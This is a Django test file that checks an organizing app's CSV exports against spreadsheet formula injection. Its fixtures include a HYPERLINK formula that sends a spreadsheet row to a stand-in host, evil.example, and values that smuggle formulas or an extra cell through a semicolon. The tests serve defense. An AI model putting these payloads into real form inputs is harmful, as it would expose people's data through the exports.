"""Every CSV export keeps what the public typed from running as a formula in a staffer's spreadsheet."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

from django.core.management import call_command
from django.test import SimpleTestCase
from django.urls import reverse

from turnout.actions.models import Form, Petition
from turnout.core.exports import FORMULA_STARTS, as_typed, csv_lines, csv_writer, safe_cell
from turnout.organizing import services
from turnout.organizing.models import Campaign, Card, Employer, Unit, Workplace
from turnout.people.importer import Importer
from turnout.people.models import Person
from turnout.site.testing import TurnoutTestCase

# What an attacker types as a name: clicked in a spreadsheet, it sends the row to a stranger.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FAMILY = "-2+3"
EMAIL = "=1+1@example.org"  # a valid address that a spreadsheet would run


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


class ExportTestCase(TurnoutTestCase):
    def assert_nothing_runs(self, text: str) -> None:
        """No cell of the file starts like a formula, and the attacker's values are there, quoted."""
        for row in rows(text):
            for cell in row:
                self.assertFalse(cell.startswith(FORMULA_STARTS), cell)
        flat = {cell for row in rows(text) for cell in row}
        self.assertIn("'" + FORMULA, flat)

    def sign_petition(self) -> Person:
        petition = Petition.objects.create(group=self.local, title="Fix the heat", petition_text="Heat now.")
        response = self.client.post(petition.public_url(), {
            "given_name": FORMULA, "family_name": FAMILY, "email": EMAIL, "phone": "+44 7911 123456",
            "postal_code": "98101", "comment": "", "ref": ""})
        self.assertEqual(response.status_code, 200)
        self.settle_forms()
        return Person.objects.get(emails__address=EMAIL)


class PeopleExportTests(ExportTestCase):
    def test_it_neutralizes_a_formula_signed_on_a_public_petition_in_the_console_export(self) -> None:
        """/people/export.csv writes the name, family name and email a stranger typed as text, not formulas."""
        self.sign_petition()
        self.login(self.organizer)
        response = self.client.get(reverse("people:export"))
        text = response.content.decode()
        self.assert_nothing_runs(text)
        signer = next(row for row in rows(text) if row[1] == "'" + FORMULA)
        self.assertEqual(signer[2:5], ["'" + FAMILY, "", "'" + EMAIL])
        self.assertEqual(signer[6], "'+44 7911 123456")  # a number abroad starts with + too

    def test_it_neutralizes_the_formula_in_the_export_people_command(self) -> None:
        """`turnout export_people` writes the same neutralized cells to standard output."""
        self.sign_petition()
        out = io.StringIO()
        call_command("export_people", "--group", self.local.slug, stdout=out, stderr=io.StringIO())
        self.assert_nothing_runs(out.getvalue())
        self.assertIn(f'"\'{EMAIL}"', out.getvalue())

    def test_an_export_imports_back_unchanged(self) -> None:
        """The quote an export adds comes off on import: the person keeps the name they typed."""
        person = self.sign_petition()
        out = io.StringIO()
        call_command("export_people", "--group", self.local.slug, stdout=out, stderr=io.StringIO())
        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "people.csv"
            path.write_text(out.getvalue(), encoding="utf-8")
            result = Importer(group=self.local, actor=self.organizer, parse_in_child=False).run(path)
        self.assertEqual(result.errors, [])
        person.refresh_from_db()
        self.assertEqual((person.given_name, person.family_name), (FORMULA, FAMILY))
        self.assertEqual(person.phones.get().number, "+447911123456")


class FormExportTests(ExportTestCase):
    def test_a_forms_export_neutralizes_name_email_and_answers(self) -> None:
        """A form's submissions export writes what a stranger typed in every column as text."""
        form = Form.objects.create(group=self.local, title="Join the campaign")
        question = form.questions.create(position=1, label="Anything else?")
        response = self.client.post(form.public_url(), {
            "given_name": FORMULA, "family_name": FAMILY, "email": EMAIL, "phone": "(206) 555-0142",
            "postal_code": "98101", f"fq{question.pk}": "@SUM(1+1)"})
        self.assertEqual(response.status_code, 200)
        self.settle_forms()
        self.login(self.organizer)
        response = self.client.get(reverse("actions:form_export", args=[form.public_id]))
        text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
        self.assert_nothing_runs(text)
        self.assertEqual(rows(text)[1][1:5], ["'" + FORMULA, "'" + FAMILY, "'" + EMAIL, "'+12065550142"])
        self.assertEqual(rows(text)[1][-1], "'@SUM(1+1)")


class RosterExportTests(ExportTestCase):
    def test_a_roster_keeps_a_card_signers_name_in_its_cell(self) -> None:
        """A name signed on the public card is neutralized, and quoted so a `;` in it starts no new cell."""
        employer = Employer.objects.create(group=self.local, name="Bean Street Coffee", industry="food")
        campaign = Campaign.objects.create(group=self.local, name="Bean Street Workers United", employer=employer)
        workplace = Workplace.objects.create(group=self.local, employer=employer, name="Pike & 5th",
                                             postal_code="98101", industry="food")
        unit = Unit.objects.create(campaign=campaign, workplace=workplace)
        url = reverse("public_card", args=[campaign.public_id])
        card = {"given_name": FORMULA, "family_name": "Martinez;=1+1", "email": EMAIL, "phone": "",
                "job_title": "Barista", "website": "", "unit": unit.pk}
        review = self.client.post(url, {**card, "step": "review"})
        signed = self.client.post(url, {**card, "step": "sign", "card_text": review.context["card_text"],
                                        "signature": f"{FORMULA} Martinez;=1+1", "agree": "on"})
        self.assertContains(signed, "Your union card is signed")
        # Nobody on the roster had that name: the signer joins it once an organizer confirms the card.
        services.confirm_card(actor=self.organizer, card=Card.objects.get())
        self.login(self.organizer)
        text = self.client.get(reverse("organizing:unit_export", args=[unit.public_id])).content.decode()
        self.assert_nothing_runs(text)
        self.assertIn('"Martinez;=1+1"', text)
        self.assertIn(f'"\'{EMAIL}"', text)


class WriterTests(SimpleTestCase):
    def test_each_formula_start_gets_a_quote_and_other_text_does_not(self) -> None:
        """The six starts OWASP names get a single quote; numbers Turnout computes stay numbers."""
        for start in ("=", "+", "-", "@", "\t", "\r"):
            self.assertEqual(safe_cell(f"{start}1+1"), f"'{start}1+1")
        for plain in ("Rosa", "(206) 555-0142", "'quoted", " =1", ""):
            self.assertEqual(safe_cell(plain), plain)
        self.assertEqual(safe_cell("'=1"), "''=1")  # so that reading it back gives `'=1` again
        self.assertEqual([safe_cell(v) for v in (-5, 1.5, None)], [-5, 1.5, None])

    def test_as_typed_undoes_exactly_what_safe_cell_did(self) -> None:
        """Reading a cell back gives what was written, for formulas and for ordinary text."""
        for value in (FORMULA, "+12065550123", "-", "Rosa", "'quoted", "'=1", "''-1", "'", ""):
            self.assertEqual(as_typed(safe_cell(value)), value)

    def test_every_cell_is_quoted_and_streaming_writes_one_line_per_row(self) -> None:
        """Quoted cells keep a `;` or a tab inside one cell; `csv_lines` yields row by row."""
        out = io.StringIO()
        csv_writer(out).writerow(["a;=1+1", "b\t=2", 3])
        self.assertEqual(out.getvalue(), '"a;=1+1","b\t=2","3"\r\n')
        lines = csv_lines(iter([["x"], ["=y"]]))
        self.assertEqual(next(lines), '"x"\r\n')
        self.assertEqual(next(lines), '"\'=y"\r\n')
